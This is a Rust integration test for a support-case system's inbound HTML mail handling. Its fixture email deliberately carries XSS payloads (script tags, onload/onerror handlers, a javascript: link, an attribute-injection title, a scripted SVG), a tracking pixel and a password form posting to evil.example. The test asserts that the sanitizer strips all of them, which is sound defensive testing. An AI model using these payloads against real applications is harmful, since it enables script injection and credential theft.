//! HTML mail as customers send it (issue 16): an Outlook-style message whose HTML part
//! carries an inline screenshot (`cid:`), a table with a serial the text part lacks,
//! and every kind of active or remote content. The case page shows the screenshot
//! from Casebook itself, nothing active survives, and remote images are blocked and
//! counted; the plain text stays one click away.

use crate::helpers::{TestApp, PASSWORD};

/// A 1×1 PNG.
const PNG_B64: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

pub(crate) fn html_mail() -> Vec<u8> {
    let html = r#"<html><head><style>p{color:red}</style><script>window.pwned=1</script></head>
<body onload="window.pwned=2"><p>您好，激活失败，截图如下：</p>
<p><img src="cid:image001.png@01DA1234.5678" alt="截图" width="600"></p>
<img src="x" onerror="window.pwned=3">
<img src="https://tracker.example/open.gif">
<a href="javascript:window.pwned=4">点这里</a> <a href="https://support.example/kb/42">KB 42</a>
<a href="https://portal.example/reset?token=1" title=" onmouseover=window.pwned=5 y">重置</a>
<table><tr><td>序列号</td><td>T102210000999</td></tr><tr><td>错误</td><td>0xC004F074</td></tr></table>
<form action="https://evil.example/steal"><input name="password"></form>
</body></html>"#;
    format!(
        "From: Zhang Wei <zhang@customer.example>\r\n\
To: support@cmgos.example\r\n\
Subject: 激活失败 截图\r\n\
Message-ID: <html-shot@customer.example>\r\n\
Date: Mon, 01 Jul 2024 09:00:00 +0800\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/related; boundary=\"rel\"\r\n\
\r\n\
--rel\r\n\
Content-Type: multipart/alternative; boundary=\"alt\"\r\n\
\r\n\
--alt\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
您好，激活失败，截图如下。\r\n\
--alt\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
{html}\r\n\
--alt--\r\n\
--rel\r\n\
Content-Type: image/png; name=\"image001.png\"\r\n\
Content-Transfer-Encoding: base64\r\n\
Content-ID: <image001.png@01DA1234.5678>\r\n\
Content-Disposition: inline; filename=\"image001.png\"\r\n\
\r\n\
{PNG_B64}\r\n\
--rel\r\n\
Content-Type: image/svg+xml; name=\"logo.svg\"\r\n\
Content-Disposition: attachment; filename=\"logo.svg\"\r\n\
\r\n\
<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\r\n\
--rel--\r\n"
    )
    .into_bytes()
}

#[test]
fn html_mail_shows_its_screenshot_and_nothing_active_or_remote() {
    let app = TestApp::new();
    let token = app.seed_staff();
    let app = app.start();
    let (status, v) = app.api(
        "POST",
        "/api/mail/inbound",
        Some(&token),
        Some(&html_mail()),
    );
    assert_eq!(status, 200, "{v}");
    let number = v["case_number"].as_str().expect("case").to_string();

    let case = app.api_get(&format!("/api/cases/{number}"), &token);
    let m = &case["messages"][0];
    let html = m["body_html"].as_str().expect("the HTML part is kept");
    for bad in [
        "<script",
        "pwned",
        "onload",
        "onerror",
        "tracker.example",
        "javascript:",
        "<form",
        "<input",
        "evil.example",
        "<style",
        "cid:",
    ] {
        assert!(!html.contains(bad), "{bad} survived:\n{html}");
    }
    assert_eq!(
        m["blocked_images"], 1,
        "the remote image is counted: {html}"
    );
    assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
    assert!(html.contains("https://support.example/kb/42"), "{html}");
    // The serial stands only in the HTML table; it is extracted all the same.
    let serials: Vec<&str> = case["serial_numbers"]
        .as_array()
        .expect("serials")
        .iter()
        .filter_map(|s| s.as_str())
        .collect();
    assert!(serials.contains(&"T102210000999"), "{serials:?}");
    // The screenshot points at Casebook's own inline route, which serves the PNG.
    let start = html.find("src=\"/cases/").expect("the inline image") + 5;
    let src = &html[start..start + html[start..].find('"').expect("end")];
    assert!(src.ends_with("/inline"), "{src}");
    let b = app.browser();
    b.login("wangbb@cmgos.example", PASSWORD);
    let img = b.get(src);
    assert_eq!(img.status, 200);
    assert_eq!(img.header("content-type"), Some("image/png"));
    assert_eq!(img.header("x-content-type-options"), Some("nosniff"));
    // The SVG attachment is never served as an image from our origin.
    let atts = case["attachments"].as_array().expect("attachments");
    assert_eq!(atts.len(), 2, "{atts:?}");
    let page = b.get(&format!("/cases/{number}"));
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("class=\"body html\""),
        "rendered as HTML"
    );
    assert!(page.body.contains(src), "the screenshot is on the page");
    assert!(!page.body.contains("tracker.example") && !page.body.contains("pwned"));
    assert!(page.body.contains("as-text"), "the plain-text switch");
    let svg_id = svg_attachment_id(&page.body, &number);
    assert_eq!(
        b.get(&format!("/cases/{number}/attachments/{svg_id}/inline"))
            .status,
        404,
        "SVG is a download only"
    );
    // Image attachments appear as thumbnails made once and kept; SVG never.
    let png_id = src
        .trim_end_matches("/inline")
        .rsplit('/')
        .next()
        .expect("id")
        .to_string();
    let thumb_url = format!("/cases/{number}/attachments/{png_id}/thumb");
    assert!(page.body.contains(&thumb_url), "a thumbnail in the thread");
    for _ in 0..2 {
        let thumb = b.get(&thumb_url);
        assert_eq!(thumb.status, 200);
        assert_eq!(thumb.header("content-type"), Some("image/png"));
    }
    assert_eq!(
        b.get(&format!("/cases/{number}/attachments/{svg_id}/thumb"))
            .status,
        404
    );
    let download = b.get(&format!("/cases/{number}/attachments/{svg_id}"));
    assert_eq!(download.status, 200);
    assert_eq!(
        download.header("content-type"),
        Some("application/octet-stream")
    );
    assert!(download
        .header("content-disposition")
        .is_some_and(|d| d.starts_with("attachment")));
}

/// The id of `logo.svg` from the links on the case page.
fn svg_attachment_id(page: &str, number: &str) -> String {
    let prefix = format!("/cases/{number}/attachments/");
    page.match_indices(&prefix)
        .filter_map(|(i, _)| {
            let rest = &page[i + prefix.len()..];
            let id: String = rest.chars().take_while(|c| c.is_ascii_digit()).collect();
            rest[id.len()..].starts_with("\">logo.svg").then_some(id)
        })
        .next()
        .expect("a link to logo.svg")
}
